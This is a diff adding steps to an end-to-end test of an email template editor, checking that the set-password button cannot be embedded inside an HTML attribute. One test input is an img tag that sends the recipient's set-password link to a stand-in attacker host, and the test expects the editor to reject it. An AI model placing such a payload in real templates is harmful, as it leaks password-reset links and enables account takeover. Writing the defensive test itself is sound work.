@@ -61,6 +61,25 @@ test("an admin edits the welcome email's subject, sees the preview follow, saves
   const saved = await request.get(`/api/v1/events/${eventId}/email-templates/welcome`);
   expect((await saved.json()).body).not.toContain('{% if teamName %}open');
 
+  // The set-password link is the recipient's alone: it goes in only as its button, on its own.
+  await body.fill(
+    "<p>Hi {{ firstName }}</p>\n<img src='https://attacker.example/?{% button setPasswordUrl %}'>",
+  );
+  await expect(
+    page
+      .getByRole('alert')
+      .filter({ hasText: 'Body, line 2, column 37: The button cannot be inside an attribute' }),
+  ).toBeVisible();
+  await body.fill('<p>Hi {{ firstName }}</p>\n');
+  await body.press('Control+End');
+  await page
+    .getByRole('button', { name: '{% button setPasswordUrl "Set your password" %}' })
+    .click();
+  await expect(body).toHaveValue(/\{% button setPasswordUrl "Set your password" %\}$/);
+  await page.getByRole('button', { name: 'Save email template' }).click();
+  await expect(page.getByText('The email template was saved')).toBeVisible();
+  await expectAccessible(page, mainContent);
+
   // The next welcome email uses the saved subject.
   const ownerEmail = `templates.${id}@example.com`;
   const created = await request.post(`/api/v1/events/${eventId}/teams`, {
